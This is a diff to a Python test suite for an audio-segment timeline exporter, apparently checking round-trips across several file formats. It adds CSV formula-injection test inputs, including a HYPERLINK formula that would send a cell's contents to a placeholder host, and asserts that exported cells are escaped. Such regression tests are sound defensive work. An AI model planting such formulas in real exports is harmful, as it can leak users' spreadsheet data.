@@ -9,8 +9,10 @@ from little_timelines import TALK, UNSURE, WORDS, predicted, text_of, tiers_of, 
 from praatio import textgrid
 
 from emoduet.segment_files import read_segments
-from emoduet.timeline_files import FORMATS
+from emoduet.timeline_files import FORMATS, write_moments
+from emoduet.types import Moment, Segment, SegmentPrediction, Timeline
 
+FORMULAS = ['=HYPERLINK("http://a.b/?" & A1)', "+1", "-1 to go", "@SUM(A1:A9)", "'=1"]
 NASTY = [
     "two\nlines\r\nand\ttabs",
     'quotes " and "" and \', commas; semicolons',
@@ -23,6 +25,7 @@ NASTY = [
     "SPEAKER a 1 0 1 <NA> <NA> b <NA> <NA>",
     "42",
     ";; = no formula",
+    *FORMULAS,
 ]
 
 
@@ -35,11 +38,11 @@ def test_no_text_breaks_a_format(tmp_path, text):
     """Two segments go in, and two come out of every format, with the text but for blanks."""
     segments = [predicted(1.0, 2.0, speaker=text, transcript=text), predicted(2.0, 3.0, UNSURE, speaker="b")]
     one = timeline(*segments, recording=f"x/{plain(text)}.wav")
-    for row in (
-        json.loads(text_of(tmp_path, one, "jsonl").split("\n")[0]),
-        list(csv.DictReader(text_of(tmp_path, one, "csv").splitlines(keepends=True), strict=True))[0],
-    ):
-        assert (row["speaker"], row["transcript"]) == (text, text)
+    row = json.loads(text_of(tmp_path, one, "jsonl").split("\n")[0])
+    assert (row["speaker"], row["transcript"]) == (text, text)
+    row = list(csv.DictReader(text_of(tmp_path, one, "csv").splitlines(keepends=True), strict=True))[0]
+    cell = f"'{text}" if text in FORMULAS else text
+    assert (row["speaker"], row["transcript"]) == (cell, cell)
     fields = [line.split() for line in text_of(tmp_path, one, "rttm").splitlines()]
     assert [len(line) for line in fields] == [10, 10]
     assert fields[0][7] == plain(text).replace(" ", "_")
@@ -75,9 +78,42 @@ def test_segments_read_back_from_what_was_written(tmp_path, format):
     assert found[1].transcript is None
 
 
-def test_word_times_read_back_from_a_textgrid(tmp_path):
+@pytest.mark.parametrize("format", ["jsonl", "csv", "rttm", "vtt", "textgrid"])
+@pytest.mark.parametrize("channels", [(1, 2), (2, 2), (None, None)])
+def test_channels_read_back_as_channels_and_nobody_as_nobody(tmp_path, format, channels):
+    """Also where but one of the channels has speech, and where segments of one overlap."""
+    segments = [predicted(1.0 + 0.5 * k, 2.0 + 0.5 * k, channel=channel) for k, channel in enumerate(channels)]
+    if channels[0] is None:
+        segments = segments[:1]
+    found = read_segments(written(tmp_path, timeline(*segments), format), "my call.mp3")
+    assert [(one.speaker, one.channel) for one in found] == [(None, one.segment.channel) for one in segments]
+
+
+@pytest.mark.parametrize("format", ["jsonl", "textgrid"])
+def test_word_times_read_back(tmp_path, format):
     one = timeline(predicted(0.5, 1.25, speaker="Anna", words=WORDS))
-    assert read_segments(written(tmp_path, one, "textgrid"))[0].words == WORDS
+    assert read_segments(written(tmp_path, one, format))[0].words == WORDS
+
+
+def test_json_lines_read_back_as_the_segments_that_were_written(tmp_path):
+    assert read_segments(written(tmp_path, TALK, "jsonl")) == [
+        Segment(start=0.5, end=1.25, speaker="Anna", transcript="Oh, no!", words=WORDS, language="en"),
+        Segment(start=1.0, end=3.0, channel=2),
+    ]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_of_a_csv_is_a_formula_and_all_read_back(tmp_path, text):
+    """In names of files, speakers, languages and classes, and in the curve, too."""
+    segment = Segment(start=1.0, end=2.0, speaker=text, transcript=text, language=text)
+    predictions = (SegmentPrediction(segment=segment, probabilities={text: 1.0}),)
+    moments = (Moment(time=1.0, probabilities={text: 1.0}, speaker=text),)
+    one = Timeline(recording=text, duration=3.0, classes=(text,), segments=predictions, moments=moments)
+    write_moments(one, tmp_path / "curve.csv")
+    for content in (text_of(tmp_path, one, "csv"), (tmp_path / "curve.csv").read_text("utf-8")):
+        cells = [cell for row in csv.reader(content.splitlines(keepends=True), strict=True) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert read_segments(tmp_path / "t.csv", text) == [segment]
 
 
 @pytest.mark.parametrize("format", FORMATS)
